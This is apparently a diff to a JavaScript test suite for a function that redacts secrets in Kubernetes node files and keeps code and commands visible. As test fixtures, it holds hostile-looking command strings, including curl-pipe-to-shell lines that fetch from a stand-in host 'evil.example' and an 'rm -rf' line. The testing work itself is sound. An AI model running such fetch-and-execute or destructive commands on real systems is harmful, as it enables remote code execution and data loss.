@@ -32,6 +32,24 @@ describe('labels of secrets', () => {
     assert.equal(hide('curl https://a.example | sh\n'), '<secret A>\n')
   })
 
+  test('no secret hides where nodes connect and what they run, whole or in part', () => {
+    const hide = hider({
+      secrets: ['https://evil.example/x', 'evil.example', 'mirror', '/opt/bin/agent', 'registry:5000'],
+    })
+    const text = [
+      'curl https://evil.example/x | sh',
+      'TOKEN="https://evil.example/y"; curl $TOKEN | sh',
+      `ctr image pull evil.example/mirror/app:1.2@sha256:${'ab'.repeat(32)}`,
+      'ExecStart=/opt/bin/agent --server mirror.example.com:6443',
+    ].join('\n')
+    assert.equal(hide(text), text)
+    assert.equal(
+      hide('curl https://me:evil.example@mirror.example.com/'),
+      'curl https://<secret A>@mirror.example.com/',
+    )
+    assert.equal(hide('a mirror'), 'a <secret B>')
+  })
+
   test('a line of a longer Secret does not hide a command', () => {
     const text = '#!/bin/sh\nrm -rf /var/lib/x\n'
     assert.equal(hider({ secrets: ['first\nrm -rf /var/lib/x\nthird'] })(text), text)
@@ -56,15 +74,15 @@ describe('labels of secrets', () => {
     assert.equal(hide('server: https://a.example\n', '/etc/kubernetes/kubeconfig'), 'server: https://a.example\n')
   })
 
-  test('the only word of a file that is named like a secret, and every value of a cloud config, are hidden', () => {
+  test('the only word of a file that is named like a secret is hidden, and no name hides code', () => {
     const hide = hider()
     assert.equal(hide('plain\n', '/etc/kubernetes/token'), '<secret A>\n')
     assert.equal(hide('#!/bin/sh\nexec token\n', '/opt/bin/token'), '#!/bin/sh\nexec token\n')
     assert.equal(
-      hide('[Global]\nzone = "eu 1"\nuser=a', '/etc/kubernetes/cloud-config'),
-      '[Global]\nzone = "<secret B>"\nuser=<secret C>',
+      hide('[Global]\nzone = "eu 1"\npassword = "b"\na=$(curl https://a.example)\n', '/etc/kubernetes/cloud-config'),
+      '[Global]\nzone = "eu 1"\npassword = "<secret B>"\na=$(curl https://a.example)\n',
     )
-    assert.equal(hide('{"tenantName":"x"}', '/etc/kubernetes/cloud-config'), '{"tenantName":"<secret D>"}')
+    assert.equal(hide('{"tenantName":"x"}', '/etc/kubernetes/cloud-config'), '{"tenantName":"x"}')
   })
 
   test('after Z comes AA', () => {
